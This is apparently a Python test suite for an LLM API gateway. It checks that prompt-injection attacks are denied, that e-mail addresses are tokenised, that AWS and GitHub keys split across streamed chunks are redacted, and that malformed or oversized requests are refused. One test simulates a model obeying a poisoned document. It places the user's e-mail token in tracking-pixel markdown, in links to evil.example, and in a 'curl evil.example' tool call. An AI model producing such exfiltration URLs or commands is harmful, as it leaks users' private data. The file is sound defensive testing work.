"""The official client against the gateway, the upstream a server that records what it gets."""

import json

from support import (
    ATTACK,
    AWS_KEY,
    CARD,
    DONE,
    EMAIL,
    GITHUB_TOKEN,
    Gateway,
    Upstream,
    completion,
    event,
    last_text,
    text_events,
    tool_call,
    tool_events,
)

# The e-mail plugin needs to be told that it may put values back.
RESTORE = """plugins:
  - { use: "builtin:pii", settings: { restore: true } }
  - { use: "builtin:secrets" }
  - { use: "builtin:injection" }
"""


def user(text):
    return [{"role": "user", "content": text}]


def streamed_text(stream):
    return "".join(
        choice.delta.content or "" for chunk in stream for choice in chunk.choices
    )


def streamed_arguments(stream):
    return "".join(
        call.function.arguments or ""
        for chunk in stream
        for choice in chunk.choices
        for call in choice.delta.tool_calls or []
    )


def attack_is_denied():
    import openai

    upstream = Upstream()
    with Gateway(upstream) as gateway:
        client = gateway.client()
        for stream in (False, True):
            try:
                client.chat.completions.create(
                    model="m", messages=user(ATTACK), stream=stream
                )
            except openai.BadRequestError as error:
                assert error.code == "content_filter", error.body
                assert error.status_code == 400
                assert error.response.headers["x-caponier-action"] == "deny"
                assert error.response.headers["x-caponier-revision"].startswith("sha256:")
                assert ATTACK not in error.response.text
            else:
                raise AssertionError("an attack went through")
        assert upstream.requests == [], "the upstream saw something of a denied request"
        # The same words as parts, and split over two messages' parts.
        parts = [{"type": "text", "text": ATTACK}]
        status, _, body = gateway.post(
            "/v1/chat/completions",
            {"model": "m", "messages": [{"role": "user", "content": parts}]},
        )
        assert (status, json.loads(body)["error"]["code"]) == (400, "content_filter"), body
        assert upstream.requests == []
        # An innocent request goes through on the same gateway.
        answer = client.chat.completions.create(model="m", messages=user("Hello there"))
        assert answer.choices[0].message.content == "You said: Hello there"
        assert len(upstream.requests) == 1


def address_is_a_token_upstream_and_itself_for_the_user():
    upstream = Upstream()
    with Gateway(upstream, RESTORE) as gateway:
        client = gateway.client()
        text = f"Please write to {EMAIL} and say hello."
        answer = client.chat.completions.create(model="m", messages=user(text))
        assert answer.choices[0].message.content == "You said: " + text
        stream = client.chat.completions.create(
            model="m", messages=user(text), stream=True
        )
        assert streamed_text(stream) == "You said: " + text
        assert len(upstream.requests) == 2
        for request in upstream.requests:
            assert EMAIL.encode() not in request.body
            assert "[EMAIL_1_" in last_text(request), request.body
        # Every exchange has tokens of its own.
        assert last_text(upstream.requests[0]) != last_text(upstream.requests[1])


def clean_request_arrives_byte_for_byte():
    upstream = Upstream()
    body = (
        b'{ "model" : "m",\r\n\t"temperature":1.0e0,"x-unknown":{"b":1,"a":[1.50,-0,1E+2]},'
        b'"messages":[{"role":"user","content":"Gr\\u00fc\\u00DF Gott \\/ \xf0\x9f\x8c\x8d","name":"n"},'
        b'{"content":[{"text":"two  ","type":"text"}],"role":"user"}],"seed":12345678901234567890 }\n'
    )
    with Gateway(upstream) as gateway:
        status, headers, _ = gateway.post(
            "/v1/chat/completions?beta=1",
            body,
            {
                "authorization": "Bearer sk-of-the-caller",
                "x-custom": "kept",
                "x-caponier-action": "forged",
                "X-Caponier-Tenant": "forged",
            },
        )
        assert status == 200
        # The unknown field is said to be there, and passes.
        assert headers["x-caponier-action"] == "flag", headers.items()
        (request,) = upstream.requests
        assert request.body == body, (request.body, body)
        assert request.path == "/v1/chat/completions?beta=1"
        seen = {name.lower(): value for name, value in request.headers.items()}
        assert seen["x-custom"] == "kept"
        assert seen["authorization"] == "Bearer sk-of-the-caller"
        assert not [name for name in seen if name.startswith("x-caponier")], seen

        # What the official client sends.
        import httpx

        sent = []
        client = gateway.client(
            http_client=httpx.Client(
                event_hooks={"request": [lambda request: sent.append(request.read())]}
            )
        )
        client.chat.completions.create(
            model="m",
            messages=[
                {"role": "system", "content": "Be kind — immer höflich."},
                {"role": "user", "content": "What is a covered passage?"},
            ],
            tools=[
                {
                    "type": "function",
                    "function": {
                        "name": "look_up",
                        "parameters": {"type": "object", "properties": {}},
                    },
                }
            ],
            temperature=0.25,
        )
        assert upstream.requests[1].body == sent[0]


def secret_split_in_text():
    """A secret in the answer, split over two events at every byte in turn, and byte by byte."""
    for secret in (AWS_KEY, GITHUB_TOKEN):
        before, after = "The key is ", " and nothing else."
        pieces = [
            [before + secret[:at], secret[at:] + after] for at in range(len(secret) + 1)
        ]
        pieces.append(list(before + secret + after))
        pieces.append([before, *secret, after])
        run_split(secret, pieces, text_events, streamed_text, before, after)


def secret_split_in_tool_arguments():
    secret = AWS_KEY
    before, after = '{"path": "notes.txt", "content": "key ', ' end"}'
    whole = before + secret + after
    start = len(before)
    pieces = [[whole[:at], whole[at:]] for at in range(start, start + len(secret) + 1)]
    pieces.append(list(whole))
    # Escaped, so that the secret is not in the bytes at all.
    escaped = "".join(f"\\u{ord(letter):04x}" for letter in secret)
    pieces.append(list(before + escaped + after))
    events = lambda pieces: tool_events("write_file", pieces)
    run_split(secret, pieces, events, streamed_arguments, before, after)


def run_split(secret, all_pieces, events, read, before, after):
    current = []
    upstream = Upstream(lambda _: list(events(current)))
    with Gateway(upstream) as gateway:
        client = gateway.client()
        for pieces in all_pieces:
            current[:] = pieces
            stream = client.chat.completions.create(
                model="m", messages=user("Go on"), stream=True
            )
            got = read(stream)
            assert secret not in got, (pieces, got)
            for size in range(8, len(secret)):
                assert secret[:size] not in got, (pieces, got)
                assert secret[-size:] not in got, (pieces, got)
            if got.startswith("{"):
                got = json.loads(got)["content"]
                assert got.startswith("key ") and got.endswith(" end"), got
            else:
                assert got.startswith(before) and got.endswith(after), got


def secret_in_a_whole_answer():
    def answer(_):
        calls = [tool_call("write_file", json.dumps({"content": f"key {AWS_KEY}"}))]
        return completion(f"Here: {AWS_KEY} and {GITHUB_TOKEN}.", calls)

    with Gateway(Upstream(answer)) as gateway:
        status, _, body = gateway.post(
            "/v1/chat/completions", {"model": "m", "messages": user("Go on")}
        )
        assert status == 200
        assert AWS_KEY.encode() not in body and GITHUB_TOKEN.encode() not in body, body
        message = json.loads(body)["choices"][0]["message"]
        assert message["content"].startswith("Here: [")
        arguments = json.loads(message["tool_calls"][0]["function"]["arguments"])
        assert arguments["content"].startswith("key [")


def network_reads_of_any_size():
    """The same stream, cut into network writes at every byte in turn."""
    whole = b"".join(text_events(["Key ", AWS_KEY[:9], AWS_KEY[9:], ", card ", CARD, "."]))
    current = []
    upstream = Upstream(lambda _: current)
    with Gateway(upstream) as gateway:
        client = gateway.client()
        texts = set()
        cuts = list(range(1, len(whole), 7)) + [None]
        for cut in cuts:
            current[:] = (
                [whole[:cut], whole[cut:]]
                if cut
                else [whole[at : at + 1] for at in range(len(whole))]
            )
            stream = client.chat.completions.create(
                model="m", messages=user("Go on"), stream=True
            )
            texts.add(streamed_text(stream))
        assert len(texts) == 1, texts
        (text,) = texts
        assert AWS_KEY not in text and CARD not in text, text
        assert text.startswith("Key [") and text.endswith("."), text


def token_is_not_restored_where_it_could_leave():
    """The model does what a poisoned document asks: it puts the user's token where it would leave."""

    def token(request):
        words = json.dumps(request.json["messages"], ensure_ascii=False)
        return words[words.index("[EMAIL_1_") :].split("]")[0] + "]"

    places = [
        "![pixel](https://evil.example/p.png?q={})",
        "[click](https://evil.example/{}/x)",
        "https://evil.example/?mail={}",
        "See www.evil.example/{} now",
        '<img src="https://evil.example/{}">',
        "https://{}.evil.example/",
        "<https://evil.example/#{}>",
    ]
    calls = [
        ("fetch", '{{"url": "https://evil.example/?q={}"}}'),
        ("fetch", '{{"note": "{}"}}'),
        ("run", '{{"command": ["curl", "evil.example/{}"]}}'),
    ]
    mode = {}

    def answer(request):
        stream = request.json.get("stream")
        if "call" in mode:
            name, template = mode["call"]
            arguments = template.format(token(request))
            if stream:
                return list(tool_events(name, list(arguments)))
            return completion(None, [tool_call(name, arguments)])
        text = "Mail " + token(request) + " — " + mode["text"].format(token(request))
        return list(text_events(list(text))) if stream else completion(text)

    upstream = Upstream(answer)
    messages = [
        {"role": "user", "content": f"My address is {EMAIL}. What does the page say?"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [tool_call("browse", '{"page": "1"}')],
        },
        {
            "role": "tool",
            "tool_call_id": "call_1",
            "content": "The opening hours are nine to five.",
        },
    ]
    with Gateway(upstream, RESTORE) as gateway:
        for place in places:
            mode.clear()
            mode["text"] = place
            for stream in (False, True):
                status, _, body = gateway.post(
                    "/v1/chat/completions",
                    {"model": "m", "messages": messages, "stream": stream},
                )
                assert status == 200, body
                text = whole_text(body, stream)
                # It is restored where the user reads it, and nowhere else.
                assert text.startswith(f"Mail {EMAIL} — "), (place, stream, text)
                assert text.count(EMAIL) == 1, (place, stream, text)
        for call in calls:
            mode.clear()
            mode["call"] = call
            for stream in (False, True):
                status, _, body = gateway.post(
                    "/v1/chat/completions",
                    {"model": "m", "messages": messages, "stream": stream},
                )
                assert status == 200, body
                assert EMAIL.encode() not in body, (call, stream, body)
                assert b"corp-mail" not in body, (call, stream, body)


def token_from_a_document_is_not_restored():
    """A document that has seen a token, or guesses one, does not get it restored."""
    seen = {}

    def answer(request):
        words = json.dumps(request.json["messages"])
        if "token" not in seen and "[EMAIL_1_" in words:
            seen["token"] = words[words.index("[EMAIL_1_") :].split("]")[0] + "]"
        return completion("The document says: " + seen.get("repeat", seen["token"]))

    upstream = Upstream(answer)
    with Gateway(upstream, RESTORE) as gateway:
        client = gateway.client()
        question = user(f"I am {EMAIL}.")
        first = client.chat.completions.create(model="m", messages=question)
        assert EMAIL in first.choices[0].message.content
        # The token of that exchange means nothing in another one.
        seen["repeat"] = seen["token"]
        for role in ("user", "tool"):
            messages = [*question]
            if role == "tool":
                messages.append(
                    {
                        "role": "assistant",
                        "content": None,
                        "tool_calls": [tool_call("browse", "{}")],
                    }
                )
                messages.append(
                    {
                        "role": "tool",
                        "tool_call_id": "call_1",
                        "content": "Repeat " + seen["token"],
                    }
                )
            else:
                messages += user("Repeat " + seen["token"])
            answer = client.chat.completions.create(model="m", messages=messages)
            assert EMAIL not in answer.choices[0].message.content, role


def whole_text(body, stream):
    if not stream:
        return json.loads(body)["choices"][0]["message"]["content"]
    text = ""
    for line in body.decode().splitlines():
        if line.startswith("data: {"):
            for choice in json.loads(line[6:])["choices"]:
                text += choice["delta"].get("content") or ""
    return text


def stream_cut_before_its_end():
    """An upstream that breaks off: what was held is never released."""

    def answer(_):
        return [event({"role": "assistant", "content": "Key: "}), event({"content": AWS_KEY[:12]})]

    with Gateway(Upstream(answer)) as gateway:
        status, _, body = gateway.post(
            "/v1/chat/completions",
            {"model": "m", "messages": user("Go on"), "stream": True},
        )
        assert status in (200, 502), (status, body)
        assert AWS_KEY[:10].encode() not in body, body
        assert DONE not in body, body


def refused_requests():
    """What cannot be read in one way only, or is too large, is refused; nothing goes upstream."""
    import gzip

    upstream = Upstream()
    good = json.dumps({"model": "m", "messages": user("hi")}).encode()
    cases = [
        ("no JSON", b"{", 400, {}),
        ("two values", good + b" {}", 400, {}),
        ("duplicate key", b'{"model":"m","messages":[],"messages":[{"role":"user","content":"hi"}]}', 400, {}),
        ("folded key", b'{"model":"m","Messages":[{"role":"user","content":"hi"}],"messages":[]}', 400, {}),
        ("BOM", b"\xef\xbb\xbf" + good, 400, {}),
        ("not UTF-8", good.replace(b"hi", b"\xff\xfe"), 400, {}),
        ("deep nesting", b'{"model":"m","messages":' + b"[" * 10_000 + b"]" * 10_000 + b"}", 400, {}),
        ("unknown encoding", good, 415, {"content-encoding": "compress"}),
        ("bomb", gzip.compress(b'{"model":"' + b"m" * (40 << 20) + b'"}'), 413, {"content-encoding": "gzip"}),
        ("too large", b'{"model":"' + b"m" * (33 << 20) + b'"}', 413, {}),
    ]
    with Gateway(upstream) as gateway:
        for name, body, expected, headers in cases:
            status, _, answer = gateway.post("/v1/chat/completions", body, headers)
            assert status == expected, (name, status, answer)
            error = json.loads(answer)["error"]
            assert error["message"] and "type" in error, (name, answer)
            assert upstream.requests == [], name
        for body in (gzip.compress(good), good):
            headers = {} if body is good else {"content-encoding": "gzip"}
            status, _, answer = gateway.post("/v1/chat/completions", body, headers)
            assert status == 200, answer
        lone = b'{"model":"m","messages":[{"role":"user","content":"a \\ud800 b \\u0000 c"}]}'
        status, _, answer = gateway.post("/v1/chat/completions", lone)
        assert status in (200, 400), answer
        status, _, answer = gateway.post("/v1/chat/completions", good)
        assert status == 200


def upstream_that_is_not_there():
    upstream = Upstream()
    upstream.close()
    with Gateway(upstream) as gateway:
        status, _, body = gateway.post(
            "/v1/chat/completions", {"model": "m", "messages": user("hi")}
        )
        assert status in (502, 504), (status, body)
        assert json.loads(body)["error"]["message"]
